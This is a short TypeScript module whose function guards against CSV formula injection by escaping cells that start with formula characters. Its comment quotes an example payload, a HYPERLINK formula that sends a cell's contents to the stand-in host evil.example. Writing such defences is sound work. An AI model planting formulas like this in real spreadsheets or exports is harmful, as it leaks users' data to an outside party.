/**
 * CSV formula injection (OWASP "CSV Injection"): a spreadsheet opening a CSV file runs a cell
 * that starts with `=`, `+`, `-` or `@` as a formula (tab and carriage return can hide such a
 * start), so a ticket titled `=HYPERLINK("https://evil.example/?d="&C2,"Open")` would send a
 * co-inventor's data away. Such cells get a leading `'`, which spreadsheets show as text.
 *
 * A plain number (`-3`, `+33`, `-1.5e3`) is left alone: it cannot hold a formula, and a sign
 * is its legitimate start. XLSX needs none of this: its cells are typed strings, never formulas.
 */
const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^[+-]?(?:\d+(?:[.,]\d+)?|[.,]\d+)(?:[eE][+-]?\d+)?$/;

export function neutraliseFormula(text: string): string {
  return FORMULA_START.test(text) && !PLAIN_NUMBER.test(text) ? `'${text}` : text;
}
